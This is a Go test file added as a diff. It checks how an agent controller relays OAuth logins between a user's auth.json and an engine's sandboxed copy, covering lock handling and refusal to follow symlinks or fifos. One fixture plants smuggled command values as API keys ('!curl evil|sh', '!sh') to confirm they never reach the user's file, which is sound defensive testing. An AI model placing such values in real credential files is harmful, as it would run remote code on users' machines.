@@ -1,0 +1,217 @@
+package controller
+
+import (
+	"encoding/json"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/mosaic-agents/mosaic/audit"
+	"github.com/mosaic-agents/mosaic/claims"
+	"github.com/mosaic-agents/mosaic/conversations"
+)
+
+// relayRig is a controller whose conversation's user agent directory
+// holds auth.json as a link into a dotfiles tree (the relay writes
+// through it), with the engine's agent directory made by ownAgentDir.
+type relayRig struct {
+	c          *Controller
+	user, real string // the user's auth.json (a link) and where it leads
+	own        string // the engine's copy
+	exp        int64  // the user's login's expiry
+	journal    *syncBuffer
+}
+
+func newRelayRig(t *testing.T, poll time.Duration) relayRig {
+	t.Helper()
+	root := t.TempDir()
+	store, err := claims.Open(filepath.Join(root, "state", "claims"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	agent, dot := filepath.Join(root, "agent"), filepath.Join(root, "dotfiles")
+	for _, d := range []string{agent, dot} {
+		if err := os.MkdirAll(d, 0o700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	r := relayRig{user: filepath.Join(agent, "auth.json"), real: filepath.Join(dot, "auth.json"), exp: time.Now().Add(time.Hour).UnixMilli()}
+	writeFile(t, r.real, fmt.Sprintf(`{"anthropic":%s,"openai":{"type":"api_key","key":"sk-user"}}`, login("a1", "r1", r.exp)), 0o640)
+	if err := os.Symlink(r.real, r.user); err != nil {
+		t.Fatal(err)
+	}
+	cv := &conversations.Conversation{ID: "pi-00000000000000000000", Engine: conversations.Engine{AgentDir: agent}}
+	r.journal = &syncBuffer{}
+	r.c = New(Config{Claims: store, Conversation: cv, PollInterval: poll, Audit: audit.NewWriter(cv.ID, r.journal)})
+	dir, err := r.c.ownAgentDir(cv)
+	if err != nil {
+		t.Fatal(err)
+	}
+	r.own = filepath.Join(dir, "auth.json")
+	return r
+}
+
+func login(access, refresh string, expires int64) string {
+	return fmt.Sprintf(`{"type":"oauth","access":%q,"refresh":%q,"expires":%d}`, access, refresh, expires)
+}
+
+func writeFile(t *testing.T, path, body string, mode os.FileMode) {
+	t.Helper()
+	if err := os.WriteFile(path, []byte(body), mode); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// access reads the anthropic login's access token and the openai key of
+// an auth.json, and the providers it holds.
+func access(t *testing.T, path string) (string, string, int) {
+	t.Helper()
+	b, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var m map[string]struct{ Access, Key string }
+	if err := json.Unmarshal(b, &m); err != nil {
+		t.Fatalf("%s: %v: %s", path, err, b)
+	}
+	return m["anthropic"].Access, m["openai"].Key, len(m)
+}
+
+func (r relayRig) relay() error {
+	return r.c.relayAuth(r.user, filepath.Dir(r.own))
+}
+
+// TestAuthRelay: an OAuth refresh Pi writes into the engine's copy goes
+// back to the user's auth.json (through the user's link, its mode kept)
+// and a newer login of the user's goes into the copy; nothing else the
+// copy holds goes back, a copy the engine replaced with a link or a fifo
+// is not read through, and Pi's lock is kept.
+func TestAuthRelay(t *testing.T) {
+	hour := time.Hour.Milliseconds()
+	refreshed := func(r relayRig) string {
+		return fmt.Sprintf(`{"anthropic":%s,"openai":{"type":"api_key","key":"!curl evil|sh"},"evil":{"type":"api_key","key":"!sh"}}`, login("a2", "r2", r.exp+hour))
+	}
+	t.Run("the engine's refresh goes back, and nothing else", func(t *testing.T) {
+		r := newRelayRig(t, time.Second)
+		writeFile(t, r.own, refreshed(r), 0o600)
+		if err := r.relay(); err != nil {
+			t.Fatal(err)
+		}
+		if a, k, n := access(t, r.user); a != "a2" || k != "sk-user" || n != 2 {
+			t.Fatalf("user's auth.json: access %q, openai key %q, %d providers", a, k, n)
+		}
+		if fi, err := os.Lstat(r.user); err != nil || fi.Mode()&os.ModeSymlink == 0 {
+			t.Fatalf("the user's link was replaced: %v", err)
+		}
+		if fi, _ := os.Stat(r.real); fi.Mode().Perm() != 0o640 {
+			t.Fatalf("the user's auth.json mode %v, want 0640", fi.Mode().Perm())
+		}
+		if !slices.ContainsFunc(r.journal.entries(t), func(e map[string]string) bool {
+			return strings.Contains(e["MESSAGE"], "refreshed the OAuth login of anthropic") && e["MOSAIC_PROVIDERS"] == "anthropic"
+		}) {
+			t.Fatalf("no journal entry for the refresh: %v", r.journal.entries(t))
+		}
+	})
+	t.Run("a newer login of the user's goes into the copy", func(t *testing.T) {
+		r := newRelayRig(t, time.Second)
+		writeFile(t, r.real, fmt.Sprintf(`{"anthropic":%s}`, login("a3", "r3", r.exp+2*hour)), 0o640)
+		if err := r.relay(); err != nil {
+			t.Fatal(err)
+		}
+		if a, k, _ := access(t, r.own); a != "a3" || k != "sk-user" {
+			t.Fatalf("the copy: access %q, openai key %q", a, k)
+		}
+	})
+	t.Run("Pi's lock on the user's file is kept; a stale one is taken over", func(t *testing.T) {
+		r := newRelayRig(t, time.Second)
+		lock := r.user + ".lock"
+		if err := os.Mkdir(lock, 0o700); err != nil {
+			t.Fatal(err)
+		}
+		writeFile(t, r.own, refreshed(r), 0o600)
+		if err := r.relay(); !errors.Is(err, errAuthLocked) {
+			t.Fatalf("relay under Pi's lock: %v", err)
+		}
+		if a, _, _ := access(t, r.user); a != "a1" {
+			t.Fatalf("written under Pi's lock: access %q", a)
+		}
+		old := time.Now().Add(-2 * staleLock)
+		os.Chtimes(lock, old, old)
+		if err := r.relay(); err != nil {
+			t.Fatal(err)
+		}
+		if a, _, _ := access(t, r.user); a != "a2" {
+			t.Fatalf("a stale lock held the refresh back: access %q", a)
+		}
+		if _, err := os.Stat(lock); !errors.Is(err, os.ErrNotExist) {
+			t.Fatalf("the relay left its lock: %v", err)
+		}
+	})
+	t.Run("a copy replaced with a link is not read through", func(t *testing.T) {
+		r := newRelayRig(t, time.Second)
+		elsewhere := filepath.Join(t.TempDir(), "auth.json")
+		writeFile(t, elsewhere, refreshed(r), 0o600)
+		os.Remove(r.own)
+		if err := os.Symlink(elsewhere, r.own); err != nil {
+			t.Fatal(err)
+		}
+		if err := r.relay(); err != nil {
+			t.Fatal(err)
+		}
+		if a, _, _ := access(t, r.user); a != "a1" {
+			t.Fatalf("read through the engine's link: access %q", a)
+		}
+	})
+	t.Run("a copy replaced with a fifo is not waited on", func(t *testing.T) {
+		r := newRelayRig(t, time.Second)
+		os.Remove(r.own)
+		if err := syscall.Mkfifo(r.own, 0o600); err != nil {
+			t.Fatal(err)
+		}
+		done := make(chan error, 1)
+		go func() { done <- r.relay() }()
+		select {
+		case err := <-done:
+			if err != nil {
+				t.Fatal(err)
+			}
+		case <-time.After(10 * time.Second):
+			t.Fatal("the relay waits on the engine's fifo")
+		}
+	})
+	t.Run("a refresh left in the last copy goes back before the next copy", func(t *testing.T) {
+		r := newRelayRig(t, time.Second)
+		writeFile(t, r.own, refreshed(r), 0o600)
+		if _, err := r.c.ownAgentDir(r.c.cfg.Conversation); err != nil {
+			t.Fatal(err)
+		}
+		if a, k, _ := access(t, r.user); a != "a2" || k != "sk-user" {
+			t.Fatalf("user's auth.json: access %q, openai key %q", a, k)
+		}
+		if a, k, n := access(t, r.own); a != "a2" || k != "sk-user" || n != 2 {
+			t.Fatalf("the new copy: access %q, openai key %q, %d providers", a, k, n)
+		}
+	})
+	t.Run("the controller relays while it runs, and as it closes", func(t *testing.T) {
+		r := newRelayRig(t, 10*time.Millisecond)
+		r.c.writes.Add(1)
+		go r.c.relayAuthLoop()
+		writeFile(t, r.own, refreshed(r), 0o600)
+		for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(10 * time.Millisecond) {
+			if a, _, _ := access(t, r.user); a == "a2" {
+				break
+			}
+			if time.Now().After(deadline) {
+				t.Fatal("the refresh was not relayed")
+			}
+		}
+		r.c.closed.Do(func() { close(r.c.closing) })
+		r.c.writes.Wait()
+	})
+}
